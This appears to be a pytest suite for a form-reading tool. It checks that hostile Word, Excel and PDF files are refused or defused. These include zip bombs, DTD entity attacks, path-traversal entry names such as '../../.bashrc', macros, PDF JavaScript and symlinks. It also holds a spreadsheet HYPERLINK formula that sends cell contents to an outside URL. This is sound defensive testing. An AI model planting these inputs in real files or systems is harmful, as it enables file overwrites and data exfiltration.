"""Hostile files among good ones: each is refused or defused with words, and nothing else in the folder is affected."""

from __future__ import annotations

import errno
import json
import multiprocessing
import os
import re
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from kalyp.loop import crew, guard
from kalyp.loop import pdf as reading
from kalyp.loop.guard import MEGABYTE, Refused
from kalyp.loop.package import LARGEST_PART, TYPES, Package, checked, parsed
from kalyp.loop.returns import read_return
from kalyp.say import Speaker
from tests.built import Built
from tests.loop import hostile
from tests.loop.cells import Sheets
from tests.loop.forms import PERSON, blank, filled, saved_twice
from tests.support import ROOT

FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Айгүл")'
MOST_MEMORY = 1_000  # MB, of the whole command and of any of its processes
MOST_SECONDS = 90


@pytest.fixture(scope="module")
def word(built: Built) -> bytes:
    return filled(built, "kg-2.1", "ky", "docx")


@pytest.fixture(scope="module")
def pdf(built: Built) -> bytes:
    return filled(built, "kg-2.1", "ky", "pdf")


# --- The whole folder ---


def traps(word: bytes, pdf: bytes) -> dict[str, tuple[bytes, str]]:
    """Files by name, each with the code of what has to be said of it."""
    return {
        "bomb.docx": (hostile.bomb(word), "package-bomb"),
        "many.docx": (hostile.many(word), "package-bomb"),
        "crowded.docx": (hostile.crowded(word), "package-bomb"),
        "lying.docx": (hostile.lying(word), "package-damaged"),
        "overlapping.docx": (hostile.overlapping(word), "package-bomb"),
        "entities.docx": (hostile.with_dtd(word, hostile.BILLION_LAUGHS), "xml-doctype"),
        "external.docx": (hostile.with_dtd(word, hostile.FETCHED), "xml-doctype"),
        "hidden.docx": (hostile.with_dtd(word, hostile.FETCHED, "UTF-16"), "xml-doctype"),
        "named.docx": (hostile.named(word, "../../.bashrc"), "package-names"),
        "absolute.docx": (hostile.named(word, "/etc/cron.d/a"), "package-names"),
        "windows.docx": (hostile.named(word, "..\\..\\a.exe"), "package-names"),
        "twice.docx": (hostile.named(word, "WORD/document.xml"), "package-damaged"),
        "locked.docx": (hostile.locked(word), "package-encrypted"),
        "cut.docx": (word[: len(word) // 2], "package-damaged"),
        "password.docx": (hostile.office_with_password(), "office-password"),
        "old.doc": (hostile.OLE, "office-old"),
        "rich.rtf": (rb"{\rtf1 a}", "foreign-text"),
        "archive.zip": (hostile.packed({"form.docx": word}), "foreign-archive"),
        "photo.pdf": (b"\xff\xd8\xff\xe0" + bytes(100), "foreign-picture"),
        "page.xlsx": (b"\xef\xbb\xbf<!DOCTYPE html><html></html>", "foreign-web"),
        "nonsense.docx": (b"MZ" + bytes(range(256)), "foreign"),
        "nothing.pdf": (b"", "empty"),
        "cut.pdf": (pdf[: -len(pdf) // 3], "pdf-damaged"),
        "password.pdf": (hostile.pdf(pdf, hostile.as_it_is, encryption=hostile.encryption("open sesame")), "pdf-password"),
        "swollen.pdf": (hostile.pdf(pdf, hostile.with_swollen_value), "damaged"),
        "xfa.pdf": (hostile.pdf(pdf, hostile.with_xfa), "pdf-xfa"),
    }


def defused(word: bytes, pdf: bytes) -> dict[str, tuple[bytes, str]]:
    """The same for files that are read although something is in them."""
    return {
        "macros.docx": (hostile.with_macros(word), "macros"),
        "template.docx": (hostile.with_template(word), "external"),
        "embedded.docx": (hostile.packed(hostile.parts(word) | {"word/embeddings/a.bin": b"MZ"}), "embedded"),
        "javascript.pdf": (hostile.pdf(pdf, hostile.with_javascript), "pdf-active"),
        "attachment.pdf": (hostile.pdf(pdf, hostile.with_attachment), "pdf-attachments"),
        "locked.pdf": (hostile.pdf(pdf, hostile.as_it_is, encryption=hostile.encryption("")), "pdf-locked"),
        "really-pdf.docx": (pdf, "misnamed"),
        "really-word.pdf": (word, "misnamed"),
    }


READ = """
import json, resource, sys, time
from pathlib import Path
from typing import Any
from kalyp import pipeline
from kalyp.loop.returns import read_folder
project, started = pipeline.check(Path(sys.argv[1])).project, time.monotonic()
found = read_folder(project, Path(sys.argv[2]))
rows = [(each.file, each.origin and each.origin.document, dict(each.values), [f.code for f in each.findings]) for each in found]
usage = [resource.getrusage(who).ru_maxrss // 1024 for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)]
print(json.dumps([rows, usage, time.monotonic() - started]))
"""


def test_hostile_files_are_refused_or_defused_and_nothing_else_is_affected(
    built: Built, word: bytes, pdf: bytes, tmp_path: Path
) -> None:
    folder, outside = tmp_path / "returned", tmp_path / "outside"
    (folder / "б" / "в").mkdir(parents=True)
    outside.mkdir()
    (outside / "secret.pdf").write_bytes(pdf)
    refused, read = traps(word, pdf), defused(word, pdf)
    for name, (data, _) in {**refused, **read}.items():
        (folder / name).write_bytes(data)
    good = {"а.pdf": pdf, "б/в/г.docx": word, "я.pdf": pdf, "circle.pdf": hostile.pdf(pdf, hostile.with_circle)}
    for name, data in good.items():
        (folder / name).write_bytes(data)
    hostile.huge(folder / "huge.pdf")
    os.mkfifo(folder / "pipe.pdf")
    (folder / "link.pdf").symlink_to(outside / "secret.pdf")
    (folder / "elsewhere").symlink_to(outside)
    before = {path: path.lstat().st_mtime_ns for path in folder.rglob("*")}

    command = [sys.executable, "-c", READ, str(built.root), str(folder)]
    run = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=300, check=True)
    rows, memory, seconds = json.loads(run.stdout)
    assert run.stderr == ""
    assert max(memory) < MOST_MEMORY
    assert seconds < MOST_SECONDS

    said = {file: codes for file, _, _, codes in rows}
    wanted = {name: code for name, (_, code) in {**refused, **read}.items()}
    wanted |= {"huge.pdf": "too-large", "pipe.pdf": "not-a-file", "link.pdf": "link", "elsewhere": "link"}
    assert set(said) == {*wanted, *good}
    assert {file: codes[0] for file, codes in said.items() if codes} == wanted
    placed = {file: (document, values) for file, document, values, _ in rows if document}
    assert set(placed) == {*good, *read}
    for file, (document, values) in placed.items():
        assert document == "kg-2.1", file
        assert {name: value for name, value in values.items() if value} == PERSON["kg-2.1"], file
    assert {path: path.lstat().st_mtime_ns for path in folder.rglob("*")} == before
    for speaker in map(Speaker, ("ky", "kk", "ru", "en")):
        assert all(speaker.say(f"found-{code}", **dict.fromkeys(VALUES, "1")) for code in wanted.values())


VALUES = ("limit", "reason", "size", "format", "name", "count", "names", "seconds")


@pytest.mark.parametrize("form", ["pdf", "docx"])
def test_a_formula_is_text(built: Built, tmp_path: Path, form: str) -> None:
    path = tmp_path / f"a.{form}"
    path.write_bytes(filled(built, "kg-2.1", "ru", form, {"full-name": FORMULA}))
    [found] = read_return(built.project, tmp_path, path)
    assert found.values["full-name"] == FORMULA
    assert [finding.code for finding in found.findings] == ["levels-none"]


def test_a_formula_in_a_workbook_is_text_and_its_traps_are_seen(built: Built, tmp_path: Path) -> None:
    sheets = Sheets(blank(built, "kg-4.2", "ru", "xlsx"))
    sheets.type({"staff.1.name": FORMULA})
    book = sheets.saved()
    shaky = hostile.altered(book, "xl/workbook.xml", lambda xml: hostile.FETCHED.encode() + xml.partition(b"?>")[2])
    macros = hostile.altered(book, TYPES, lambda xml: xml.replace(*hostile.XLSM))
    files = {"a.xlsx": (book, []), "b.xlsx": (shaky, ["xml-doctype"]), "c.xlsm": (macros, ["macros"])}
    for name, (data, codes) in files.items():
        (tmp_path / name).write_bytes(data)
        [found] = read_return(built.project, tmp_path, tmp_path / name)
        assert [finding.code for finding in found.findings] == codes, name
        assert found.values.get("staff.1.name") == (None if "xml-doctype" in codes else FORMULA), name


# --- Listing ---


def test_what_programs_leave_behind_is_no_file_of_ours(tmp_path: Path) -> None:
    names = ["~$орма.docx", ".~lock.форма.docx#", "Thumbs.db", "desktop.ini", ".DS_Store", "._форма.pdf", "__MACOSX/._a.pdf"]
    for name in [*names, "форма.pdf"]:
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_bytes(b"a")
    assert [found.shown for found in guard.found(tmp_path)] == ["форма.pdf"]


def test_a_name_cannot_steer_the_terminal_nor_hide_what_it_is(tmp_path: Path) -> None:
    names = ["a\x1b[2J.pdf", "a\u202efdp.exe", "a\nb.pdf", os.fsdecode(b"a\xff.pdf")]
    for name in names:
        (tmp_path / name).write_bytes(b"a")
    assert sorted(found.shown for found in guard.found(tmp_path)) == ["a?[2J.pdf", "a?b.pdf", "a?fdp.exe", "a\ufffd.pdf"]


def test_a_folder_that_is_not_there_is_no_empty_one(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        guard.found(tmp_path / "none")


def test_a_closed_folder_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    closed, look = tmp_path / "a", os.scandir
    closed.mkdir()

    def scandir(path: str) -> Any:  # nothing is closed to root, who may run the tests
        if Path(path) == closed:
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), path)
        return look(path)

    monkeypatch.setattr(os, "scandir", scandir)
    assert [(found.shown, found.finding and found.finding.code) for found in guard.found(tmp_path)] == [("a", "unreadable")]


def test_a_file_is_judged_by_what_is_opened(tmp_path: Path) -> None:
    """It may have been changed for a link or a pipe since it was listed."""
    (tmp_path / "a").write_bytes(b"a")
    (tmp_path / "link").symlink_to(tmp_path / "a")
    os.mkfifo(tmp_path / "pipe")
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(tmp_path / "socket"))
        for name, code in (("link", "link"), ("pipe", "not-a-file"), ("socket", "unreadable"), ("none", "unreadable")):
            with pytest.raises(Refused) as refused:
                guard.content(tmp_path / name)
            assert refused.value.finding.code == code


def test_a_file_at_the_limit_is_read_and_one_beyond_is_not(tmp_path: Path) -> None:
    (tmp_path / "a").write_bytes(bytes(10))
    assert guard.content(tmp_path / "a", largest=10) == bytes(10)
    with pytest.raises(Refused, match="too-large"):
        guard.content(tmp_path / "a", largest=9)


# --- Zip and XML ---


def test_no_more_of_a_part_is_unpacked_than_it_says(word: bytes) -> None:
    package = Package(hostile.lying(word))
    with pytest.raises(Refused, match="package-damaged"):
        package.read(hostile.DOCUMENT)


def test_a_part_at_the_limit_is_read(word: bytes) -> None:
    assert len(Package(hostile.packed({"a.xml": bytes(LARGEST_PART)})).read("a.xml")) == LARGEST_PART
    with pytest.raises(Refused, match="package-bomb"):
        Package(hostile.packed({"a.xml": bytes(LARGEST_PART + 1)})).read("a.xml")


@pytest.mark.parametrize(
    "xml",
    [
        b"<!DOCTYPE a><a/>",
        b"<?xml version='1.0'?>\n<!-- a -->\n<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
        b"\xef\xbb\xbf<!DOCTYPE a><a/>",
        "<!DOCTYPE a><a/>".encode("utf-16"),
    ],
)
def test_a_dtd_is_refused_wherever_it_stands(xml: bytes) -> None:
    with pytest.raises(Refused, match="xml-doctype"):
        checked(xml)


@pytest.mark.parametrize(
    "xml",
    [
        "<!DOCTYPE a><a/>".encode("utf-16-le"),
        "<!DOCTYPE a><a/>".encode("utf-32"),
        b"<?xml version='1.0' encoding='utf-7'?>+ADwAIQ-DOCTYPE a+AD4-<a/>",
        "<!DOCTYPE a><a/>".encode("cp037"),
        b"<?xml version='1.0' encoding='cp037'?><a/>",
        b"<a>",
        b"",
        b"\xff\xfe\x00\xd8",
        b"<a>" * 1000 + b"</a>" * 1000,
    ],
)
def test_xml_in_which_a_dtd_could_hide_or_that_is_none_is_damaged(xml: bytes) -> None:
    with pytest.raises(Refused, match="package-damaged"):
        parsed(xml)


def test_honest_xml_is_parsed_in_each_encoding_that_office_has() -> None:
    for xml in (
        "<a>ң</a>".encode(),
        b"\xef\xbb\xbf<a>\xd2\xa3</a>",
        "<?xml version='1.0' encoding='utf-16'?><a>ң</a>".encode("utf-16"),
    ):
        assert parsed(xml).text == "ң"


# --- PDF ---


def test_a_pdf_that_breaks_off_never_gives_older_values(built: Built, tmp_path: Path) -> None:
    """A viewer adds what was filled in at the end: what breaks off there is a good PDF up to its former end."""
    whole, second = saved_twice(built, tmp_path)
    assert _name(whole) == "Экинчи"
    assert _name(whole[:second]) == "Биринчи"
    ends = {
        *range(1, second, 9973),
        *range(second, len(whole), 97),
        *range(second, second + 400),
        *range(len(whole) - 1200, len(whole)),
    }
    for end in ends:
        if whole[second:end].strip():
            assert _name(whole[:end]) in (None, "Экинчи"), end
        elif whole[end:second].strip():
            assert _name(whole[:end]) is None, end


def test_what_is_lost_in_a_broken_part_of_a_pdf_is_not_silently_empty(built: Built, tmp_path: Path) -> None:
    """A table of objects that is right leads to an object that is none: what stood there counts as nothing."""
    data = hostile.pdf(filled(built, "kg-2.1", "ky", "pdf"), hostile.as_it_is, object_stream_mode=hostile.PLAIN)
    found = re.search(rb"\d+ 0 obj\n<<[^\n]*?/V <[^\n]*", data)
    assert found
    start, end = found.start(), found.start() + data[found.start() :].index(b"<<")
    (tmp_path / "a.pdf").write_bytes(data[:end] + b")]" + data[end + 2 :])
    assert start < end
    [read] = read_return(built.project, tmp_path, tmp_path / "a.pdf")
    assert {finding.code for finding in read.findings} & {"pdf-doubtful", "pdf-damaged", "damaged"}


def _name(data: bytes) -> str | None:
    """What stands in the first field; None for a file that is refused."""
    try:
        with reading.opened(data) as opened:
            return dict(reading.values(opened))["full-name"]
    except Refused:
        return None


# --- Processes ---


def _work(task: str) -> int:
    """What a file may do to the process that reads it."""
    if task == "slow":
        time.sleep(60)
    if task == "busy":
        sum(range(10**12))
    if task == "dies":
        os._exit(3)
    if task == "raises":
        raise KeyError(task)
    return len(bytearray(400 * MEGABYTE)) if task == "memory" else len(task)


def _why(result: int | crew.Lost) -> int | str:
    return result.why if isinstance(result, crew.Lost) else result


def test_a_process_that_hangs_dies_or_takes_all_memory_costs_its_task_alone() -> None:
    tasks = ["a", "slow", "bb", "dies", "memory", "ccc", "busy", "raises", "dies", "dddd"]
    started = time.monotonic()
    found = [(task, _why(result)) for task, result in crew.results(_work, tasks, seconds=1, memory=300 * MEGABYTE)]
    assert time.monotonic() - started < 60
    wanted = {"slow": "slow", "busy": "slow", "dies": "died", "raises": "died", "memory": "memory"}
    assert sorted(found) == sorted((task, wanted.get(task, len(task))) for task in tasks)


def test_whoever_stops_listening_leaves_no_process_behind() -> None:
    before = set(multiprocessing.active_children())
    results = crew.results(_work, ["a", "slow", "slow", "slow"], seconds=50)
    assert next(iter(results))[1] == 1
    results.close()  # type: ignore[attr-defined]
    assert set(multiprocessing.active_children()) == before


def test_no_tasks_need_no_process() -> None:
    work: Callable[[str], int] = _work
    assert list(crew.results(work, [])) == []
